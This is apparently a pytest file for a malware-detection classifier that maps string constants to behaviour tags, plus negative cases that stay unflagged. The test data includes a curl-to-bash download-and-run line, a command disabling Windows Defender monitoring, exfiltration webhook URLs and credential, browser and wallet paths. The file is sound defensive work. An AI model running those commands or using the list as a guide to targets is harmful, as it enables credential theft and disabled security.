"""Constants mean what the tables say, and look-alikes mean nothing."""

import pytest

from pratique import vocabulary
from pratique.code import hosts, marks, strings


def behaviours(text: str, kind: str = "") -> set[str]:
    return {found.behaviour for found in marks.classify(text, kind) if not found.weak}


@pytest.mark.parametrize(
    ("text", "behaviour"),
    [
        ("https://discord.com/api/webhooks/123456789012345678/abcDEF", "net/exfil-webhook"),
        ("HTTPS://DISCORDAPP.COM/api/v9/webhooks/123456/x", "net/exfil-webhook"),
        ("https://api.telegram.org/bot123456789:" + "A" * 35 + "/sendMessage", "net/exfil-webhook"),
        ("123456789:AA" + "b" * 33, "net/exfil-webhook"),
        ("https://webhook.site/0000", "net/exfil-webhook"),
        ("https://abc.m.pipedream.net", "net/exfil-webhook"),
        ("http://x.oast.fun/", "net/suspicious-host"),
        ("tcp://0.tcp.ngrok.io:4444", "net/suspicious-host"),
        ("host.duckdns.org", "net/suspicious-host"),
        ("https://cdn.discordapp.com/attachments/1/2/a.exe", "net/suspicious-host"),
        ("https://bit.ly/abc", "net/suspicious-host"),
        ("https://pastebin.com/raw/abc", "net/dead-drop"),
        ("http://8.8.4.99/x", "net/raw-public-ip"),
        ("http://0x2d0c2109/x", "net/raw-public-ip"),
        ("http://user:pw@45.12.33.9:80/", "net/raw-public-ip"),
        ("https://api.ipify.org?format=json", "discover/network"),
        ("http://169.254.169.254/latest/meta-data/", "creds/cloud-metadata"),
        ("a" * 56 + ".onion", "net/anonymizer"),
        ("~/.ssh/id_rsa", "creds/private-key"),
        ("/home/me/.aws/credentials", "creds/files"),
        ("\\Google\\Chrome\\User Data", "creds/browser"),
        ("Login Data", "creds/browser"),
        ("/exodus.wallet", "creds/wallet"),
        ("nkbihfbeogaeaoehlefnkodbefgpgknn", "creds/wallet"),
        ("\\discord\\Local Storage\\leveldb\\", "creds/chat-token"),
        ("Telegram Desktop\\tdata", "creds/chat-token"),
        (".bash_history", "creds/history"),
        ("Software\\Microsoft\\Windows\\CurrentVersion\\Run", "persist/autostart"),
        ("/home/me/.bashrc", "persist/autostart"),
        ("/proc/self/environ", "creds/env-dump"),
        ("GITHUB_TOKEN", "creds/env-secret"),
        ("1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "impact/transaction-hijack"),
        ("stratum+tcp://pool.example:3333", "impact/mining"),
        ("curl -s https://x.example/i | bash", "exec/download-run"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "evade/tamper-security"),
    ],
)
def test_a_constant_is_known_by_itself(text: str, behaviour: str) -> None:
    assert behaviour in behaviours(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "hello world",
        "https://docs.python.org/3/",
        "https://github.com/psf/requests",
        "http://127.0.0.1:8000/",
        "http://192.168.1.10/",
        "1.2.3.4",
        "3.11.7",
        "not.io",
        "discord.com",
        "https://discord.com/api/webhooks/{id}",
        "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3",
        "github.co",
        "login data for the user".title()[:5],
        "environment",
        "0x" + "0" * 40,
    ],
)
def test_honest_constants_mean_nothing(text: str) -> None:
    assert behaviours(text) == set()


def test_an_address_is_one_only_where_a_host_is_expected() -> None:
    assert behaviours("45.12.33.9", "host") == {"net/raw-public-ip"}
    assert behaviours("45.12.33.9") == set()
    assert behaviours("10.0.0.1", "host") == set()


def test_every_behaviour_is_in_the_vocabulary() -> None:
    data = strings.load()
    used = {mark.behaviour for mark in data.mark} | {group.behaviour for group in data.hosts}
    assert not {one for one in used if not vocabulary.known(one)}


def test_no_host_stands_in_two_groups() -> None:
    names = [name for group in strings.load().hosts for name in group.names]
    assert len(names) == len(set(names))
    assert all(name == name.lower() and "/" not in name for name in names)


def test_no_mark_is_named_twice() -> None:
    names = [mark.id for mark in strings.load().mark]
    assert len(names) == len(set(names))


def test_every_check_exists() -> None:
    assert {mark.check for mark in strings.load().mark if mark.check} == set(marks.CHECKS)


@pytest.mark.parametrize("spelled", ["0x7f000001", "2130706433", "127.1", "0177.0.0.1"])
def test_spellings_of_the_own_machine_are_not_public(spelled: str) -> None:
    assert hosts.public_address(spelled) == ""


def test_a_huge_constant_is_bounded() -> None:
    assert behaviours("A" * 5_000_000 + "/.ssh/id_rsa") == set()
    assert len(marks.classify("http://45.12.33.9/ " * 5000)) == 1
